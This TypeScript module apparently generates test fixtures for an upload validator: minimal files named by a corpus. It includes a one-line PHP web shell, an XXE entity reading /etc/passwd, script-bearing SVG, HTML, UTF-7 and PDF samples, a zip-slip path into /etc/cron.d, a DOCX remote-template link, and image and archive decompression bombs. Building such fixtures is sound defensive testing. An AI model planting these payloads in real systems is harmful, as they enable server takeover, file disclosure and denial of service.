import { crc32, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { type Fields, numberOf } from './corpus.ts'

// Files that the corpus names, made as small as they can be.

const SVG = '<svg xmlns="http://www.w3.org/2000/svg">'
const TEXTS: Record<string, string> = {
  svg_foreign: `${SVG}<foreignObject><body onload="window.__x=1"/></foreignObject></svg>`,
  svg_xxe: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG}&x;</svg>`,
  html: '<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><script>window.__x=1</script></html>',
  xml: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//x.test/a.xsl"?><a/>',
  js: 'window.__x = 1\n',
  php: '<?php echo shell_exec($_GET["x"]); ?>\n',
  text: 'just a few words\n',
  html_utf7: '+ADw-script+AD4-window.__x+AD0-1+ADw-/script+AD4-\n',
  pdf_js: '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n',
}

/** Bytes of a file by the name that the corpus gives it. */
export async function makeFile(name: string, value: Fields): Promise<Buffer> {
  const text = TEXTS[name]
  if (text !== undefined) return Buffer.from(text)
  const made = MADE[name]
  if (!made) throw new Error(`the corpus makes the file “${name}”, which the harness does not know`)
  return made(value)
}

const MADE: Record<string, (value: Fields) => Buffer | Promise<Buffer>> = {
  png: () => png(),
  bytes: ({ n }) => Buffer.alloc(numberOf(n)),
  png_padded: async ({ bytes }) =>
    Buffer.concat([await png(), Buffer.alloc(numberOf(bytes))], numberOf(bytes)),
  gzip_svg: () => gzipSync(TEXTS.svg_foreign ?? ''),
  elf: () => Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(120)]),
  iso: () => Buffer.concat([Buffer.alloc(32_768), Buffer.from('\x01CD001\x01'), Buffer.alloc(2041)]),
  zip: () => zip([['a.class', 'x']]),
  zip_bomb: () => zip([['0.bin', Buffer.alloc(1000)]]),
  zip_slip: () => zip([['../../../etc/cron.d/x', 'x']]),
  docx_remote: () => zip(DOCX),
  png_dims: async () => withHeader(await png(), 65_535, 65_535),
  png_zero: async () => withHeader(await png(), 0, 1),
  png_text: async () => withChunk(await png(), 'tEXt', 'GPS\0 52.5200, 13.4050'),
  gif_frames: () => gif(50_000),
  jpeg_exif_bomb: jpegOfManyNotes,
  webp_bomb: hugeWebp,
  avif_bomb: () => pixel().avif().toBuffer(),
  tiff: () => pixel().tiff().toBuffer(),
  mp4_moov: () =>
    Buffer.concat([box('ftyp', 'isom\0\0\0\0isommp42'), Buffer.from('7fffffff6d6f6f76', 'hex')]),
}

const pixel = () => sharp({ create: { width: 2, height: 2, channels: 3, background: '#03604a' } })
const png = () => pixel().png().toBuffer()

const uint32 = (n: number) => Buffer.from([n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255])
const chunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  return Buffer.concat([uint32(data.length), body, uint32(crc32(body))])
}
const box = (type: string, data: string) =>
  Buffer.concat([uint32(8 + data.length), Buffer.from(type), Buffer.from(data, 'latin1')])

/** A picture that claims another size. */
const withHeader = (image: Buffer, width: number, height: number) =>
  Buffer.concat([
    image.subarray(0, 8),
    chunk('IHDR', Buffer.concat([uint32(width), uint32(height), image.subarray(24, 29)])),
    image.subarray(33),
  ])

const withChunk = (image: Buffer, type: string, text: string) =>
  Buffer.concat([image.subarray(0, 33), chunk(type, Buffer.from(text, 'latin1')), image.subarray(33)])

function gif(frames: number) {
  const head = Buffer.from('474946383961010001008000000000000000ff', 'hex')
  const frame = Buffer.from('21f90400000000002c0000000001000100000202440100', 'hex')
  return Buffer.concat([head, ...Array<Buffer>(frames).fill(frame), Buffer.from(';')])
}

async function jpegOfManyNotes() {
  const jpeg = await pixel().jpeg().toBuffer()
  const note = Buffer.concat([Buffer.from('ffe10010', 'hex'), Buffer.from('Exif\0\0MM\0*\0\0\0\0')])
  return Buffer.concat([jpeg.subarray(0, 2), ...Array<Buffer>(10_000).fill(note), jpeg.subarray(2)])
}

/** A canvas of 16383 × 16383 around one small frame. */
async function hugeWebp() {
  const small = await pixel().webp({ lossless: true }).toBuffer()
  const riff = (type: string, data: Buffer) => {
    const size = Buffer.alloc(4)
    size.writeUInt32LE(data.length)
    return Buffer.concat([Buffer.from(type), size, data, Buffer.alloc(data.length % 2)])
  }
  const frame = Buffer.concat([Buffer.from('00000000000001000001000064000000', 'hex'), small.subarray(12)])
  const body = Buffer.concat([
    Buffer.from('WEBP'),
    riff('VP8X', Buffer.from('02000000fe3f00fe3f00', 'hex')),
    riff('ANIM', Buffer.alloc(6)),
    riff('ANMF', frame),
  ])
  return riff('RIFF', body)
}

const DOCX: [string, string][] = [
  [
    '[Content_Types].xml',
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  ],
  [
    'word/_rels/settings.xml.rels',
    '<Relationships><Relationship Target="http://x.test/a.dotm" TargetMode="External"/></Relationships>',
  ],
  ['word/document.xml', '<document/>'],
]

/** An archive without compression. */
function zip(entries: [name: string, content: string | Buffer][]) {
  const files: Buffer[] = []
  const directory: Buffer[] = []
  let at = 0
  for (const [name, content] of entries) {
    const [label, data] = [Buffer.from(name), Buffer.from(content)]
    const common = Buffer.alloc(26)
    common.writeUInt16LE(20, 0)
    common.writeUInt32LE(crc32(data), 10)
    common.writeUInt32LE(data.length, 14)
    common.writeUInt32LE(data.length, 18)
    common.writeUInt16LE(label.length, 22)
    const file = Buffer.concat([Buffer.from('504b0304', 'hex'), common, label, data])
    const tail = Buffer.alloc(14)
    tail.writeUInt32LE(at, 10)
    directory.push(Buffer.concat([Buffer.from('504b01021400', 'hex'), common, tail, label]))
    files.push(file)
    at += file.length
  }
  const index = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.writeUInt32BE(0x504b0506, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(index.length, 12)
  end.writeUInt32LE(at, 16)
  return Buffer.concat([...files, index, end])
}
